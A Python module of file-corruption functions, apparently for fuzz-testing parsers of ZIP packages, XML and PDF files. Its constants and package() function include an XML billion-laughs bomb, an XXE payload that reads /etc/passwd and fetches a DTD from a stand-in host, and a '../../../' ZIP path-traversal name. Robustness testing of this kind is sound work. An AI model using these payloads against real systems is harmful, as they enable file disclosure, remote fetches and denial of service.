"""Damage to files: by bytes, whatever they are, and by structure (parts of packages, tags, numbers, PDF objects).

Every function takes the content and a random generator and returns other content.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable

Damage = Callable[[bytes, random.Random], bytes]

_NUMBERS = (b"0", b"-1", b"65536", b"2147483647", b"4294967296", b"99999999999999999999", b"1e309", b"NaN", b"x")
_ENDS = (b"\xff\xff\xff\xff", b"\x00\x00\x00\x00", b"\xff\xff\xff\x7f", b"\x00\x00\x00\x80", b"\xfe\xff")
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "aaaaaaaaaaaaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 20) for n in range(9))
    + b"]><z>&j;</z>"
)
EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM '
    b'"http://192.0.2.1/evil.dtd"> %y;]><z>&x;</z>'
)
_DEPTH = 50_000


def _place(content: bytes, rng: random.Random) -> slice:
    start = rng.randrange(len(content) + 1)
    return slice(start, start + rng.choice((1, 4, 64, 1024, 16384)))


def flip(content: bytes, rng: random.Random) -> bytes:
    """Some bytes are others."""
    changed = bytearray(content)
    for _ in range(rng.choice((1, 5, 50, 500))):
        if changed:
            changed[rng.randrange(len(changed))] = rng.randrange(256)
    return bytes(changed)


def cut(content: bytes, rng: random.Random) -> bytes:
    """The file ends early."""
    return content[: rng.randrange(len(content) + 1)]


def drop(content: bytes, rng: random.Random) -> bytes:
    """A stretch is missing."""
    place = _place(content, rng)
    return content[: place.start] + content[place.stop :]


def repeat(content: bytes, rng: random.Random) -> bytes:
    """A stretch stands there many times."""
    place = _place(content, rng)
    return content[: place.start] + content[place] * rng.choice((2, 10, 300)) + content[place.stop :]


def blank(content: bytes, rng: random.Random) -> bytes:
    """A stretch is all zeros, or noise."""
    place = _place(content, rng)
    size = len(content[place])
    return content[: place.start] + rng.choice((bytes(size), rng.randbytes(size))) + content[place.stop :]


def extreme(content: bytes, rng: random.Random) -> bytes:
    """Four bytes are an extreme number, as a length or an offset may be."""
    start = rng.randrange(len(content) + 1)
    value = rng.choice(_ENDS)
    return content[:start] + value + content[start + len(value) :]


def renumber(content: bytes, rng: random.Random) -> bytes:
    """A few printed numbers are extreme: lengths, spans, counts, positions."""
    found = list(re.finditer(rb"\d+", content))
    for match in sorted(rng.sample(found, min(len(found), rng.choice((1, 3, 20)))), key=lambda m: -m.start()):
        content = content[: match.start()] + rng.choice(_NUMBERS) + content[match.end() :]
    return content


def retag(content: bytes, rng: random.Random) -> bytes:
    """A tag is missing, doubled, many times there, or nested in itself without end."""
    found = list(re.finditer(rb"<[^<>]{1,200}>", content))
    if not found:
        return cut(content, rng)
    match = rng.choice(found)
    instead = rng.choice((b"", match[0] * 2, match[0] * 5000, match[0] * _DEPTH, b"</x>", b"<x", b"<![CDATA["))
    return content[: match.start()] + instead + content[match.end() :]


def package(content: bytes, rng: random.Random) -> bytes:
    """One part of a ZIP package is gone, empty, another, a bomb, or has a number or a tag that is wrong."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    name = rng.choice(list(parts))
    part = parts.pop(name)
    others = [{name: how(part, rng)} for how in (renumber, retag, flip, cut) for _ in range(3)]
    text = part.partition(b"?>")[2]
    parts |= rng.choice(
        [
            *others,
            {},
            {name: b""},
            {name: BOMB},
            {name: EXTERNAL},
            {name: EXTERNAL.partition(b"]>")[0] + b"]>" + text},
            {name: b"<a>" * _DEPTH},
            {name: rng.choice(list(parts.values()) or [b""])},
            {name: rng.randbytes(200)},
            {"../../../" + name: part},
            {name.upper(): part},
        ]
    )
    return zipped(parts)


def zipped(parts: dict[str, bytes]) -> bytes:
    """A ZIP file with these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def objects(content: bytes, rng: random.Random) -> bytes:
    """A PDF's references point elsewhere, perhaps at themselves, or its names are others."""
    pattern = rng.choice((rb"\d+ 0 R", rb"/[A-Z][A-Za-z]+", rb"<<|>>|\[|\]", rb"(?<=/Length )\d+", rb"\d+ 0 obj"))
    found = list(re.finditer(pattern, content))
    for match in sorted(rng.sample(found, min(len(found), rng.choice((1, 4)))), key=lambda m: -m.start()):
        content = content[: match.start()] + rng.choice(found)[0] + content[match.end() :]
    return content


BY_BYTES: tuple[Damage, ...] = (flip, cut, drop, repeat, blank, extreme)
